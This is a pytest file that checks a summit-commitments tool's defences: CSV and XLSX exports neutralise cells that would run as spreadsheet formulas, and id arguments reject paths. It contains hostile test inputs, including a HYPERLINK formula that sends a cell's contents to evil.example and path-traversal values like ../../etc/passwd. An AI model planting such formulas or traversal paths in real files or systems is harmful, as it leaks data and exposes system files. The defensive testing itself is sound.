"""Small holes closed: CSV cells a spreadsheet would run, arguments that must be ids."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from conftest import summit, write_minimal_repo

from summitkit.exchange.export import defused

COMMITMENT = """\
id: jpn-coe
made_by: jpn
made_at: seoul-2012
category: coe
text: {text}
sources: [fact-sheet]
"""


@pytest.mark.parametrize(
    "text",
    [
        '"=HYPERLINK(\\"https://example.org\\", \\"click\\")"',
        '"+1+2"',
        '"-2+3"',
        '"@SUM(A1:A9)"',
        '"\\r=cmd"',
    ],
)
def test_csv_cells_that_start_a_formula_are_prefixed(tmp_path: Path, text: str) -> None:
    root = write_minimal_repo(
        tmp_path / "repo", {"content/commitments/jpn-coe.yaml": COMMITMENT.format(text=text)}
    )
    result = summit("export", "csv", root, "--what", "commitments")
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader(io.StringIO(result.stdout)))
    cell = rows[0]["text"]
    assert cell.startswith("'") and cell[1] in "=+-@\t\r", repr(cell)


def test_plain_numbers_and_words_stay_as_they_are() -> None:
    assert defused("-2") == "-2"
    assert defused("+3.5") == "+3.5"
    assert defused("Set up a centre") == "Set up a centre"
    assert defused("-x") == "'-x"
    assert defused("\tx") == "'\tx"
    assert defused(7) == 7


@pytest.mark.parametrize(
    "args",
    [
        ("sign", "../../etc/passwd", "jpn"),
        ("unsign", "Joint", "jpn"),
        ("release", "../x", "--rev", "1"),
        ("versions", "a/b"),
        ("report", "..", "{repo}"),
        ("export", "akn", "a b", "--path", "{repo}"),
    ],
)
def test_id_arguments_take_ids_only(minimal_repo: Path, args: tuple[str, ...]) -> None:
    line = [a.replace("{repo}", str(minimal_repo)) for a in args]
    result = summit(*line)
    assert result.exit_code == 2, result.output
    assert "is not an id: ids are lowercase letters, digits and hyphens" in result.stderr


HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


def test_xlsx_stores_every_record_text_as_text(tmp_path: Path) -> None:
    """A benchmark title that reads as a formula is a text cell in every sheet; the
    workbook's own recomputing formulas stay formulas."""
    import shutil

    from openpyxl import load_workbook

    root = tmp_path / "repo"
    shutil.copytree(Path(__file__).parent / "data" / "scores", root)
    benchmark = root / "content" / "benchmarks" / "centre.yaml"
    text = benchmark.read_text(encoding="utf-8")
    title = "title: A centre set up and operating\n"
    benchmark.write_text(text.replace(title, f"title: '{HYPERLINK}'\n"), encoding="utf-8")
    out = tmp_path / "scores.xlsx"

    result = summit("export", "xlsx", root, "-o", out)

    assert result.exit_code == 0, result.output
    book = load_workbook(out)
    holding = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.value == HYPERLINK:
                    holding.append(sheet.title)
                    assert cell.data_type == "s", (sheet.title, cell.coordinate)
                elif isinstance(cell.value, str) and cell.value.startswith("="):
                    assert sheet.title == "scores" and "SUMPRODUCT" in cell.value
                    assert cell.data_type == "f"
    assert sorted(set(holding)) == ["benchmarks", "weights"]
